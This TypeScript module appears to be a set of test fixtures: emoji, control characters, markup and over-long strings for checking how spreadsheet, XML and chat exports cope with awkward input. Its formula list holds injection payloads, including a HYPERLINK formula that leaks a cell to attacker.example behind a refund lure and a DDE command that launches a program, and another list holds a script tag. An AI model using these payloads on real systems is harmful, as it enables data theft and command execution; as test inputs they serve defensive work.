/** Texts that people really send and that spreadsheets, XML and chat windows stumble over. */

export const emojiTexts = [
  'Family of four: 👨‍👩‍👧‍👦, flag: 🇩🇪, thumbs: 👍🏽, heart: ❤️',
  '🎉🎉🎉',
  'Zalgo t̸e̷x̶t̴ and a ligature ﷽',
] as const;

export const formulaTexts = [
  '=1+1',
  '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for your refund")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '==SUM(A1:A9)',
] as const;

export const awkwardTexts = [
  '    four spaces in front and two behind  ',
  'line one\nline two\r\nline three\u2028line four',
  'bell \u0007, null \u0000, escape \u001b[31mred\u001b[0m, delete \u007f',
  '_x0041_ must not become the letter A',
  'not characters at all: \ufffe \uffff, half an emoji: \ud83d, the other half: \ude00',
  '</t></is></c></row><script>alert("x")</script> & "quotes" \'apostrophes\'',
  '**bold** <@all> <@personEmail:someone@cumulus.example|you> [link](https://attacker.example)',
  'zero\u200bwidth \u202eoverride\u202c and \ufeffmark',
  '',
  '   ',
] as const;

/** Longer than a spreadsheet cell may be, with an emoji right across the border of the first one. */
export function longText(topic: string): string {
  const line = `${topic}: it worked yesterday, it does not work today, here is the whole log again. `;
  const before = line.repeat(Math.ceil(32_766 / line.length)).slice(0, 32_766);
  return `${before}🧾${line.repeat(500)}The end.`;
}
